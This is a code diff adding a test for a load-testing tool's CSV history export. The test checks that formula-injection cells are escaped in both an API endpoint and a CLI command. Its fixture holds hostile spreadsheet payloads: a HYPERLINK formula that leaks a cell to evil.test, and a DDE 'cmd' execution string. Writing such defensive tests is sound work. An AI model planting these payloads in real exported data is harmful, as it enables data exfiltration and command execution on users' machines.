@@ -6,6 +6,9 @@ import { join } from 'node:path';
 import { fileURLToPath, pathToFileURL } from 'node:url';
 import { History, exitReason } from '../../sink/control/history.ts';
 import { historyCsv, HISTORY_CSV_COLUMNS } from '../../report/history-csv.ts';
+import { historyCommand } from '../../cli/history.ts';
+import { buildApp } from '../../sink/app.ts';
+import { Writable } from 'node:stream';
 import type { HistoryEntry } from '../../contract/sink-api.ts';
 
 const ROOT = fileURLToPath(new URL('../..', import.meta.url));
@@ -287,6 +290,39 @@ describe('historyCsv', () => {
     ]);
     const last = rows[4]!;
     expect([last[col('exit_code')], last[col('exit_reason')], last[col('p95_ms')], last[col('error_ratio')], last[col('grade')], last[col('score')], last[col('breaking_point_vus')]]).toEqual(['', 'ended (stale markers)', '', '', 'N/A', '', '42']);
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas, in /api/runs.csv and history --csv, as OWASP recommends', async () => {
+    const hostile = {
+      promo_name: '=HYPERLINK("http://evil.test/?leak="&A1,"Black Friday")',
+      environment: "+cmd|' /C calc'!A0",
+      promo_type: '-2+3',
+      intensity: '@SUM(1+1)',
+    };
+    const run = entry(1, { tags: hostile, scenario: '\t=1+1', target: '\r=1+1', exitReason: 'ok;=1+1', exitCode: -1 });
+    const csv = historyCsv([run]);
+    const [, row] = parseCsv(csv);
+    const col = (name: (typeof HISTORY_CSV_COLUMNS)[number]) => row![HISTORY_CSV_COLUMNS.indexOf(name)];
+    expect([col('promo_name'), col('environment'), col('promo_type'), col('intensity'), col('scenario'), col('target'), col('exit_reason'), col('exit_code')]).toEqual([
+      `'${hostile.promo_name}`, `'${hostile.environment}`, `'${hostile.promo_type}`, `'${hostile.intensity}`, "'\t=1+1", "'\r=1+1", 'ok;=1+1', '-1',
+    ]);
+    // The semicolon (the separator in many locales) is quoted, so `=1+1` never starts a cell there either.
+    expect(csv).toContain(',"ok;=1+1",');
+
+    const file = join(dir, 'history.jsonl');
+    const history = await History.open(file, () => {});
+    await history.append(run);
+    await history.close();
+    const out: string[] = [];
+    await historyCommand(['--csv', '--file', file], new Writable({ write: (chunk, _enc, done) => (out.push(String(chunk)), done()) }));
+    expect(out.join('')).toBe(csv);
+    const app = buildApp({ config: { historyFile: file } });
+    try {
+      const res = await app.inject('/api/runs.csv');
+      expect({ status: res.statusCode, body: res.body }).toEqual({ status: 200, body: csv });
+    } finally {
+      await app.close();
+    }
   });
 
   it('is only the header for an empty history', () => {
